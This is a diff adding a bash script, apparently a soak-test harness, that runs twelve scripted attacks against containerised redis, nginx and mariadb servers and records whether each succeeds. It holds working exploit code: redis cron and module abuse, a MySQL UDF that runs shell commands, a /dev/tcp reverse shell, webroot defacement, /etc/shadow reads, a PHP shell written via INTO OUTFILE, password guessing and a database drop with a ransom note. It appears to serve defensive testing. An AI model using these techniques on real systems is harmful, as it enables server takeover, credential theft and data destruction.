@@ -1,0 +1,132 @@
+# The attacks of soak.sh: what strangers do to such servers. To be sourced.
+
+box_path() { echo "$BOX_DIR/$(box_name "$1")/rootfs"; }
+
+attack() { # NAME CONTAINER FUNCTION; its line of the table says whether it did what it was to do
+    local from to result=done
+    [ -e "$BOX_DIR/$2.nspid" ] || return
+    from=$(now)
+    "$3" "$2" >>"$OUT/attacks.log" 2>&1 || result='did not succeed'
+    to=$(now)
+    printf '%s\t%s\t%s\t%s\t%s\n' "$1" "$(box_name "$2")" "$from" "$to" "$result" >>"$OUT/attacks.tsv"
+    say "attack: $1 on $2: $result"
+    sleep 5
+}
+
+redis_say() { in_net "$1" redis-cli "${@:2}"; }
+
+redis_cron() {
+    redis_say "$1" CONFIG SET dir /var/spool/cron/crontabs
+    redis_say "$1" CONFIG SET dbfilename root
+    redis_say "$1" SET job $'\n\n* * * * * /bin/sh -c "id >/tmp/owned"\n\n'
+    redis_say "$1" SAVE
+    grep -q owned "$(box_path "$1")/var/spool/cron/crontabs/root"
+}
+
+redis_module() {
+    cat >"$BOX_DIR/module.c" <<'EOF'
+#include <stdlib.h>
+int RedisModule_OnLoad(void *c, void **v, int n) { return (c || v || n) && system("id >/tmp/.m; cat /etc/shadow >>/tmp/.m; uname -a >>/tmp/.m"); }
+EOF
+    gcc -shared -fPIC -o "$(box_path "$1")/tmp/module.so" "$BOX_DIR/module.c"
+    redis_say "$1" MODULE LOAD /tmp/module.so
+    grep -q uid= "$(box_path "$1")/tmp/.m"
+}
+
+redis_eval() {
+    redis_say "$1" EVAL 'local t = 0 for i = 1, 6e8 do t = t + i end return t' 0
+    redis_say "$1" EVAL "for i = 1, 300000 do redis.call('SET', 'k' .. i, string.rep('x', 100)) end" 0
+}
+
+shell_session() {
+    box_exec "$1" bash -c 'id; uname -a; ls -la / /root; cat /etc/passwd; cat /etc/shadow; env; ls /proc
+        cp /usr/bin/id /tmp/.x; chmod 700 /tmp/.x; /tmp/.x'
+    [ -e "$(box_path "$1")/tmp/.x" ]
+}
+
+deface() {
+    box_exec "$1" dash -c 'cat /etc/nginx/nginx.conf; find /var/www -name "*.html"; echo hacked >/var/www/index.html'
+    grep -q hacked "$(box_path "$1")/var/www/index.html"
+}
+
+call_home() {
+    local listener status
+    nsenter -t "$(cat "$BOX_DIR/$1.nspid")" -n python3 - <<'EOF' &
+import socket, time
+server = socket.create_server(("127.0.0.1", 4444))
+server.settimeout(10)
+peer = server.accept()[0]
+peer.settimeout(2)
+for command in ("id", "cat /etc/shadow", "ls -la /var/www", "exit"):
+    peer.sendall(command.encode() + b"\n")
+    time.sleep(.3)
+answer = peer.recv(65536)
+raise SystemExit(b"uid=" not in answer)
+EOF
+    listener=$!
+    sleep 1
+    box_exec "$1" bash -c 'bash -i >&/dev/tcp/127.0.0.1/4444 0>&1'
+    wait "$listener"
+    status=$?
+    return "$status"
+}
+
+miner() {
+    box_exec "$1" bash -c 'cp /usr/bin/sha256sum /tmp/kdevtmpfsi; /tmp/kdevtmpfsi /dev/zero & sleep 10; kill $!'
+}
+
+alias_of_etc() { # no new program: the server itself gives the files away
+    sed -i 's|location = /gone|location /x/ { alias /etc/; } location = /gone|' "$(box_path "$1")/etc/nginx/nginx.conf"
+    runc kill "$(box_name "$1")" HUP
+    sleep 1
+    in_net "$1" ab -n 1 http://127.0.0.1/x/shadow
+    nsenter -t "$(cat "$BOX_DIR/$1.nspid")" -n curl -s http://127.0.0.1/x/passwd | grep root:
+}
+
+sql_files() {
+    mariadb_sql "$1" "CREATE TABLE loot (t TEXT); INSERT INTO loot SELECT LOAD_FILE('/etc/passwd');
+        INSERT INTO loot SELECT LOAD_FILE('/etc/mysql/debian.cnf'); SELECT '<?php system(1); ?>' INTO OUTFILE '/tmp/shell.php'"
+    [ -e "$(box_path "$1")/tmp/shell.php" ]
+}
+
+sql_function() {
+    cat >"$BOX_DIR/udf.c" <<'EOF'
+#include <stdlib.h>
+struct arguments { unsigned n; int *types; char **args; };
+int run_init(void *i, struct arguments *a, char *m) { (void)i, (void)m; return a->n != 1; }
+long long run(void *i, struct arguments *a, char *n, char *e) { (void)i, (void)n, (void)e; return system(a->args[0]); }
+EOF
+    gcc -shared -fPIC -o "$BOX_DIR/udf.so" "$BOX_DIR/udf.c"
+    mariadb_sql "$1" "SELECT unhex('$(od -An -v -tx1 "$BOX_DIR/udf.so" | tr -d ' \n')') INTO DUMPFILE '/usr/lib/mysql/plugin/u.so';
+        CREATE FUNCTION run RETURNS INTEGER SONAME 'u.so'; SELECT run('id >/tmp/.u; cat /etc/passwd >>/tmp/.u');"
+    grep -q uid= "$(box_path "$1")/tmp/.u"
+}
+
+sql_guessing() {
+    local i
+    for i in $(seq 300); do
+        in_net "$1" mariadb --no-defaults --protocol=tcp -h 127.0.0.1 -u root -p"guess$i" -e 'SELECT 1'
+    done
+    return 0
+}
+
+sql_ransom() {
+    mariadb_sql "$1" "SELECT * FROM mysql.global_priv; SELECT * FROM information_schema.columns; SELECT * FROM item;
+        DROP DATABASE shop; CREATE DATABASE readme; CREATE TABLE readme.note (t TEXT); INSERT INTO readme.note VALUES ('pay')"
+    [ -d "$(box_path "$1")/var/lib/mysql/readme" ]
+}
+
+run_attacks() {
+    attack 'redis: cron file by CONFIG SET and SAVE' redis-2 redis_cron
+    attack 'redis: hostile module loaded' redis-3 redis_module
+    attack 'redis: EVAL that blocks and floods' redis-4 redis_eval
+    attack 'redis: shell session, shadow, program dropped' redis-5 shell_session
+    attack 'nginx: page defaced from a session' nginx-2 deface
+    attack 'nginx: shell calls home' nginx-3 call_home
+    attack 'nginx: miner dropped and run' nginx-4 miner
+    attack 'nginx: /etc served by a changed configuration' nginx-5 alias_of_etc
+    attack 'mariadb: LOAD_FILE and INTO OUTFILE' mariadb-2 sql_files
+    attack 'mariadb: UDF library written, loaded, runs id' mariadb-3 sql_function
+    attack 'mariadb: 300 passwords guessed' mariadb-4 sql_guessing
+    attack 'mariadb: all read, database dropped' mariadb-5 sql_ransom
+}
